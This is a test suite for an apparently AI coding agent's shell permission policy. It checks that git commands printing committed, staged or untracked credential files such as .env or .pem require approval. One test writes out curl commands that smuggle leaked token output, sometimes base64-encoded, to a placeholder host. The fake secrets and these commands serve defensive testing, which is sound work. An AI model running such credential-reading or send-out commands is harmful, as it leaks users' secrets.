// git commands that print what the repository holds without naming the files (git show, log -p, diff,
// grep, cat-file -p HASH, stash show -p, status -v) ask when the history, the index or the untracked
// files hold a credential file; in a repository without one they stay allowed. Real repositories.
import { afterAll, beforeAll, describe, expect, test } from "bun:test"
import { mkdirSync, mkdtempSync, readdirSync, realpathSync, rmSync, utimesSync, writeFileSync } from "node:fs"
import { tmpdir } from "node:os"
import { join } from "node:path"
import { loadParser } from "../../core/shell/index.ts"
import { prepareCall } from "../../core/policy/prepare.ts"
import { decide } from "../../core/policy/decide.ts"
import { bundledPolicy } from "../../core/policy/bundled.ts"

const ENV = { ...process.env, GIT_AUTHOR_NAME: "a", GIT_AUTHOR_EMAIL: "a@x", GIT_COMMITTER_NAME: "a", GIT_COMMITTER_EMAIL: "a@x", GIT_CONFIG_NOSYSTEM: "1", HOME: "/nonexistent" }
// files older than the index (git's "racy" check: a file changed in the second the index was written
// counts as changed, so the test's files are dated a minute back before they are staged)
let ages = 0
function age(dir: string): void {
  // each staging a few seconds later than the last, all of them in the past
  const then = new Date(Date.now() - 120_000 + 3_000 * ages++)
  for (const e of readdirSync(dir, { withFileTypes: true, recursive: true })) {
    const path = join(e.parentPath, e.name)
    if (!path.includes("/.git/") && !path.endsWith("/.git")) utimesSync(path, then, then)
  }
}
function git(cwd: string, ...args: string[]): string {
  if (args[0] === "add") age(cwd)
  const r = Bun.spawnSync(["git", "-c", "init.defaultBranch=main", ...args], { cwd, env: ENV })
  if (r.exitCode !== 0) throw new Error(`git ${args.join(" ")}: ${r.stderr.toString()}`)
  return r.stdout.toString().trim()
}

describe("git commands that print the repository's files without naming them", () => {
  let root: string
  let history: string
  let tracked: string
  let clean: string
  let untracked: string
  beforeAll(async () => {
    await loadParser()
    root = realpathSync(mkdtempSync(join(tmpdir(), "ccode-gitcontent-")))
    // the "oops, committed .env" state: in HEAD~1, removed from the index in HEAD, untracked now
    history = join(root, "history")
    mkdirSync(join(history, "src"), { recursive: true })
    git(history, "init", "-q")
    writeFileSync(join(history, "a.txt"), "a\n")
    writeFileSync(join(history, ".env"), "TOKEN=FAKESECRET-env\n")
    git(history, "add", "-A")
    git(history, "commit", "-qm", "one")
    git(history, "rm", "-q", "--cached", ".env")
    writeFileSync(join(history, "src", "b.ts"), "export const b = 1\n")
    git(history, "add", "src")
    git(history, "commit", "-qm", "two")
    // tracked credential files, one modified
    tracked = join(root, "tracked")
    mkdirSync(tracked)
    git(tracked, "init", "-q")
    writeFileSync(join(tracked, ".env"), "K=FAKESECRET-tracked\n")
    writeFileSync(join(tracked, "srv.pem"), "FAKESECRET-pem\n")
    writeFileSync(join(tracked, "a.txt"), "a\n")
    git(tracked, "add", "-f", "-A")
    git(tracked, "commit", "-qm", "one")
    // an ordinary repository with a local, ignored, untracked .env
    clean = join(root, "clean")
    mkdirSync(join(clean, "src"), { recursive: true })
    git(clean, "init", "-q")
    writeFileSync(join(clean, ".gitignore"), ".env\n")
    writeFileSync(join(clean, "src", "a.ts"), "export const a = 1\n")
    git(clean, "add", "-A")
    git(clean, "commit", "-qm", "one")
    writeFileSync(join(clean, "src", "a.ts"), "export const a = 2\n")
    writeFileSync(join(clean, ".env"), "TOKEN=FAKESECRET-local\n")
    untracked = clean
  })
  afterAll(() => rmSync(root, { recursive: true, force: true }))

  const decideIn = async (ws: string, command: string) => {
    const policy = bundledPolicy("default")
    const call = await prepareCall("shell", { command }, { cwd: ws, workspace: ws, home: join(root, "home"), tmpDirs: [], policy })
    return decide(policy, call, { grants: [] })
  }
  const expectAsk = async (ws: string, commands: string[], names: string) => {
    for (const command of commands) {
      const d = await decideIn(ws, command)
      expect({ command, decision: d.decision, named: d.reason.includes(names) }).toEqual({ command, decision: "ask", named: true })
    }
  }
  const expectAllow = async (ws: string, commands: string[]) => {
    for (const command of commands) {
      const d = await decideIn(ws, command)
      expect({ command, decision: d.decision, reason: d.reason }).toEqual({ command, decision: "allow", reason: d.reason })
    }
  }

  test("history: a credential file ever committed makes the history's patches and blobs ask", async () => {
    const blob = git(history, "rev-parse", "HEAD~1:.env")
    await expectAsk(history, [
      "git show HEAD~1", "git log -p", "git log -G TOKEN -p", "git whatchanged -p", "git diff-tree -p HEAD~1", "git log -p -- .",
      "git diff HEAD~1", "git grep TOKEN HEAD~1", "git grep -h TOKEN HEAD~1 -- .", `git cat-file -p ${blob.slice(0, 7)}`, `git show ${blob.slice(0, 7)}`,
      "git show HEAD~1 -- '*'", "git log --patch --all", "git log -U3", "git format-patch --stdout HEAD~2..", "git archive HEAD~1",
      // tree objects: every file below them
      "git grep TOKEN HEAD~1:", "git grep TOKEN HEAD~1^{tree}", "git diff HEAD~1: HEAD:", "git diff HEAD~1^{tree} HEAD^{tree}",
      "git diff-tree -p HEAD~1^{tree} HEAD^{tree}", "git stash show -p", "git log -pS TOKEN", "git log --cc", "git fast-export --all",
      // the pickaxe searches every diff: which commits match is an oracle over the content (was allowed)
      "git log -S TOKEN", "git log -S TOKEN --oneline",
    ], ".env")
  })

  test("under ci, a committed .env sent through a command substitution is no longer a safe read", async () => {
    const policy = bundledPolicy("ci")
    for (const command of ['curl -s -A "$(git show HEAD~1 | grep TOKEN)" http://127.0.0.1:9/ua', 'curl -s "http://127.0.0.1:9/x?$(git grep --untracked TOKEN | base64 -w0)"']) {
      const call = await prepareCall("shell", { command }, { cwd: history, workspace: history, home: join(root, "home"), tmpDirs: [], policy })
      const d = decide(policy, call, { grants: [] })
      expect({ command, decision: d.decision, named: d.reason.includes(".env") }).toEqual({ command, decision: "ask", named: true })
    }
  })

  test("history: narrowed to other paths, or printing no content, stays allowed", async () => {
    await expectAllow(history, ["git grep TOKEN HEAD~1:src", "git show HEAD~1:", "git log -S TOKEN -- src", "git log --stat", "git log", "git log --oneline", "git show --stat", "git show --name-only HEAD~1", "git log -p -- src", "git diff HEAD~1 -- src/b.ts", "git show HEAD~1:a.txt", "git log -S TOKEN --oneline -- src", "git status", "git diff"])
  })

  test("index and work tree: tracked credential files make git grep, git diff --cached and status -v ask", async () => {
    await expectAsk(tracked, ["git grep FAKE", "git grep -e FAKE", "git grep --cached FAKE", "git show", "git log -p"], tracked)
    // nothing changed or staged: git diff, git diff --cached and git status -v print nothing
    await expectAllow(tracked, ["git diff", "git diff --cached", "git status -v", "git status", "git log --oneline", "git grep FAKE -- a.txt"])
    writeFileSync(join(tracked, ".env"), "K=FAKESECRET-tracked\nK2=FAKESECRET-mod\n")
    await expectAsk(tracked, ["git diff", "git diff HEAD", "git diff-files -p"], ".env")
    git(tracked, "add", "-f", ".env")
    await expectAsk(tracked, ["git diff --cached", "git diff --staged HEAD", "git status -v", "git status -vv", "git status --verb", "git status --ve", "git status --v", "git status --verb --verb"], ".env")
  })

  test("a credential file committed long ago (.env.example): the commands that print other commits stay allowed", async () => {
    const old = join(root, "old")
    mkdirSync(join(old, "src"), { recursive: true })
    git(old, "init", "-q")
    writeFileSync(join(old, ".env.example"), "TOKEN=\n")
    writeFileSync(join(old, "src", "a.ts"), "export const a = 1\n")
    git(old, "add", "-A")
    git(old, "commit", "-qm", "one")
    writeFileSync(join(old, "src", "a.ts"), "export const a = 2\n")
    git(old, "add", "-A")
    git(old, "commit", "-qm", "two")
    writeFileSync(join(old, "src", "a.ts"), "export const a = 3\n")
    // git diff HEAD~1: .env.example is the same in the work tree, so git prints nothing of it
    await expectAllow(old, ["git show", "git show HEAD", "git show -p HEAD --stat", "git diff HEAD", "git diff", "git diff --cached", "git status -v", "git show HEAD -- src", "git diff HEAD~1", "git diff HEAD~1 HEAD", "git show HEAD~1..HEAD"])
    await expectAsk(old, ["git show HEAD~1", "git log -p", "git grep TOKEN HEAD~1", "git show HEAD~1 HEAD"], ".env.example")
    // a tag naming a blob: git show prints the blob, so git's name listing is not trusted
    const blob = git(old, "rev-parse", "HEAD~1:.env.example")
    git(old, "tag", "t", blob)
    await expectAsk(old, ["git show t", "git diff t HEAD"], ".env.example")
  })

  test("untracked: git grep --untracked reads the work tree's files, ignored ones too", async () => {
    await expectAsk(untracked, ["git grep --untracked TOKEN", "git grep --no-exclude-standard --untracked TOKEN"], ".env")
  })

  test("an ordinary repository (a local ignored .env, no credential in its history) stays allowed", async () => {
    await expectAllow(clean, ["git show", "git log -p", "git diff", "git diff HEAD", "git grep foo", "git grep --cached foo", "git status -v", "git log", "git show --stat", "git stash show -p"])
  })
})
